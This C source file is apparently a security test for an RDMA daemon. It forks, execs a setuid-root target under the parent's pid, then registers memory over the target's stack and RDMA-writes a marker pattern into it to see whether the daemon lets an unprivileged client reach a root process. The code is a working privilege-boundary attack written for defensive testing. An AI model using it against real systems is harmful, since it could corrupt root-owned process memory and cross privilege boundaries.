/* The attack of issue 10 item 1, run by an unprivileged user against a
 * setuid-root program (test_exec_attack.py, docs/security.md):
 *   1. open the uroce device (the daemon learns who we are),
 *   2. fork; the parent execs the setuid-root target, keeping its pid,
 *   3. the child, through the connection the parent opened, registers an
 *      MR over the target's stack buffer and, with a QP of its own, RDMA
 *      WRITEs a pattern into it.
 * A daemon that reaches clients by pid lets step 3 write into the root
 * process. Prints one line per step ("REG_MR ok|failed ...", "WRITE ..."),
 * then the target's verdict ("INTACT" / "CHANGED ..."). Exit 0 when the run
 * went through (whatever the verdict), 1 when the setup itself failed; the
 * parent's pid, now the target, exits with the target's status.
 *
 * usage: exec_attack DEVICE GID_INDEX TARGET */
#include <errno.h>
#include <infiniband/verbs.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../dataflow/rc_link.h"

#define PATTERN_BYTE 0xEE
#define WRITE_BYTES 64
#define WAIT_MS 5000

/* The RDMA WRITE of step 3, from a device context of the child's own. */
static void write_through(struct rc_device *old, struct ibv_mr *victim, const char *device, int gid_index) {
    struct rc_device mine;
    if (rc_device_open(&mine, device, gid_index) != 0) {
        printf("WRITE not tried: cannot open a second context\n");
        return;
    }
    struct rc_endpoint a, b;
    struct ibv_qp *qa = rc_qp_create(&mine, &a);
    struct ibv_qp *qb = rc_qp_create(old, &b);
    if (qa == NULL || qb == NULL || rc_qp_connect(&mine, qa, &a, &b) != 0 || rc_qp_connect(old, qb, &b, &a) != 0) {
        printf("WRITE not tried: no connected QP pair (errno %d)\n", errno);
        return;
    }
    static unsigned char pattern[WRITE_BYTES];
    memset(pattern, PATTERN_BYTE, sizeof pattern);
    struct ibv_mr *src = ibv_reg_mr(mine.pd, pattern, sizeof pattern, IBV_ACCESS_LOCAL_WRITE);
    if (src == NULL) {
        printf("WRITE not tried: cannot register the source\n");
        return;
    }
    struct ibv_sge sge = {.addr = (uintptr_t)pattern, .length = sizeof pattern, .lkey = src->lkey};
    struct ibv_send_wr wr = {.sg_list = &sge, .num_sge = 1, .opcode = IBV_WR_RDMA_WRITE,
                             .send_flags = IBV_SEND_SIGNALED};
    wr.wr.rdma.remote_addr = (uintptr_t)victim->addr;
    wr.wr.rdma.rkey = victim->rkey;
    struct ibv_send_wr *bad = NULL;
    if (ibv_post_send(qa, &wr, &bad) != 0) {
        printf("WRITE not posted\n");
        return;
    }
    struct ibv_wc wc;
    const int got = rc_wait(&mine, &wc, WAIT_MS);
    if (got == 1) {
        printf("WRITE completed with status %d (%s)\n", wc.status, ibv_wc_status_str(wc.status));
    } else {
        printf("WRITE without completion\n");
    }
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: %s DEVICE GID_INDEX TARGET\n", argv[0]);
        return 1;
    }
    const char *device = argv[1];
    const int gid_index = atoi(argv[2]);
    const char *target = argv[3];

    struct rc_device old;
    if (rc_device_open(&old, device, gid_index) != 0) {
        return 1;
    }
    int out[2], in[2];
    if (pipe(out) != 0 || pipe(in) != 0) {
        perror("pipe");
        return 1;
    }
    const pid_t parent = getpid();
    const pid_t child = fork();
    if (child < 0) {
        perror("fork");
        return 1;
    }
    if (child != 0) {
        /* The parent becomes the setuid-root target: same pid, new image. */
        dup2(in[0], 0);
        dup2(out[1], 1);
        close(in[1]);
        close(out[0]);
        execl(target, target, (char *)NULL);
        perror("exec");
        _exit(127);
    }
    close(in[0]);
    close(out[1]);
    FILE *from_target = fdopen(out[0], "r");
    unsigned long long addr = 0;
    long pid = 0, euid = -1;
    char line[128];
    if (from_target == NULL || fgets(line, sizeof line, from_target) == NULL ||
        sscanf(line, "%llx %ld %ld", &addr, &pid, &euid) != 3) {
        printf("SETUP target said nothing\n");
        return 1;
    }
    printf("TARGET pid %ld (the attacker's parent was %ld) euid %ld\n", pid, (long)parent, euid);
    fflush(stdout);

    struct ibv_mr *mr = ibv_reg_mr(old.pd, (void *)(uintptr_t)addr, WRITE_BYTES,
                                   IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ);
    if (mr == NULL) {
        printf("REG_MR failed: %s\n", strerror(errno));
    } else {
        printf("REG_MR ok: rkey 0x%x over the target's stack\n", mr->rkey);
        fflush(stdout);
        write_through(&old, mr, device, gid_index);
    }
    fflush(stdout);
    close(in[1]); /* the target checks its buffer and answers */
    char verdict[128] = "";
    while (fgets(verdict, sizeof verdict, from_target) != NULL) {
        printf("VERDICT %s", verdict);
    }
    fflush(stdout);
    return 0;
}
